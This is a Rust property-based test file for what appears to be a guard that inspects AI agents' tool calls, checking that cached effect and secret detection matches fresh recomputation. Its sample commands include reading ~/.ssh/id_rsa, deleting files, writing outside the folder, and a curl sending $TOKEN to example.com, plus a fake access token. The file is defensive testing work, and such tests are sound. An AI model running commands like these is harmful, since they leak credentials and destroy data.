//! What was worked out from a document goes with it.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test")]

use std::borrow::Cow;
use std::sync::Arc;

use proptest::prelude::*;
use serde_json::json;
use tollgate_core::{Body, Event, Point};
use tollgate_rules::{Ambient, CallFacts, Still};

const COMMANDS: [&str; 4] = ["rm -r a", "cat ~/.ssh/id_rsa", "echo x > ../b", "curl https://example.com/$TOKEN"];
const TOOLS: [&str; 4] = ["Bash", "exec", "Read", "create_issue"];
const FOLDERS: [Option<&str>; 3] = [Some("/home/user/project"), Some("/srv/other"), None];
const TOKEN: &str = "ghp_x7Kq2LmZ9vRt4WbN8yHc3JdF6sGp1QaUe5To";

/// Surroundings in which every path is a link to another.
struct Linked(&'static str);

impl Ambient for Linked {
    fn workspace(&self, cwd: Option<&str>) -> Cow<'_, [String]> {
        Cow::Owned(Still::default().workspace(cwd).into_owned())
    }

    fn home<'a>(&'a self, _: Option<&'a str>) -> Option<Cow<'a, str>> {
        Some("/home/user".into())
    }

    fn real(&self, path: &str) -> Option<String> {
        (!path.starts_with(self.0)).then(|| format!("{}{path}", self.0))
    }
}

/// What happens to a body between two looks.
#[derive(Clone, Debug)]
enum Happens {
    Set(usize),
    Write(usize),
    Secret(bool),
    Rename(usize),
    Note,
    /// Goes back to an earlier form, as the pipeline does when an edit fails.
    Back,
    /// The call moves on to where only its arguments are known.
    After,
}

fn happens() -> impl Strategy<Value = Happens> {
    prop_oneof![
        (0..COMMANDS.len()).prop_map(Happens::Set),
        (0..COMMANDS.len()).prop_map(Happens::Write),
        any::<bool>().prop_map(Happens::Secret),
        (0..TOOLS.len()).prop_map(Happens::Rename),
        Just(Happens::Note),
        Just(Happens::Back),
        Just(Happens::After),
    ]
}

fn happen(one: &Happens, body: &mut Body, kept: &mut Body) {
    match one {
        Happens::Set(command) => body.set(json!({ "command": COMMANDS[*command] })),
        Happens::Write(command) => body.json_mut().unwrap()["command"] = COMMANDS[*command].into(),
        Happens::Secret(there) => body.json_mut().unwrap()["token"] = if *there { TOKEN.into() } else { "x".into() },
        Happens::Rename(tool) => body.rename(TOOLS[*tool]),
        Happens::Note => body.notes.push("noted".to_owned()),
        Happens::Back => std::mem::swap(body, kept),
        Happens::After => *kept = body.clone(),
    }
}

/// What is to be seen in a body, in all surroundings; each time it is the one that is given.
fn seen(body: impl Fn() -> Body, around: &[Arc<dyn Ambient>], tool: &str) -> Vec<String> {
    let names = tollgate_wire::names();
    let name = names.name(tool);
    let result = Body::from(json!({ "content": [] }));
    let mut all = Vec::new();
    for (ambient, cwd) in around.iter().flat_map(|ambient| FOLDERS.map(|cwd| (ambient, cwd))) {
        let body = &body();
        let before = Event { cwd, ..Event::tool(Point::ToolBefore, &name, "c") };
        let after = Event { point: Point::ToolAfter, arguments: Some(body), became: body.renamed(), ..before };
        let (before, after) = (CallFacts::new(&before, body, ambient), CallFacts::new(&after, &result, ambient));
        all.push(format!("{:?} {:?} {:?}", before.effects(), before.has_secret(), after.effects()));
    }
    all
}

fn surroundings() -> Vec<Arc<dyn Ambient>> {
    vec![Still::shared(), Arc::new(Linked("/one")), Arc::new(Linked("/two"))]
}

/// The same body, without anything that somebody worked out.
fn fresh(body: &Body) -> Body {
    let mut fresh = Body::from(body.json().unwrap().clone());
    if let Some(name) = body.renamed() {
        fresh.rename(name.written());
    }
    fresh
}

proptest! {
    // Each looks up to a hundred times and more.
    #![proptest_config(ProptestConfig::with_cases(48))]
    #[test]
    fn nobody_sees_what_another_body_did(all in proptest::collection::vec(happens(), 1..12), tool in 0..TOOLS.len()) {
        let around = surroundings();
        let mut body = Body::from(json!({ "command": COMMANDS[0] }));
        let mut kept = body.clone();
        for one in &all {
            happen(one, &mut body, &mut kept);
            let shared = seen(|| body.clone(), &around, TOOLS[tool]);
            prop_assert_eq!(shared, seen(|| fresh(&body), &around, TOOLS[tool]), "{:?}", one);
        }
    }
}

#[test]
fn many_threads_may_look_at_one_document() {
    let around = surroundings();
    let body = Body::from(json!({ "command": COMMANDS[0] }));
    let expected = seen(|| fresh(&body), &around, "Bash");
    std::thread::scope(|scope| {
        for _ in 0..4 {
            scope.spawn(|| assert_eq!(seen(|| body.clone(), &around, "Bash"), expected));
        }
    });
}
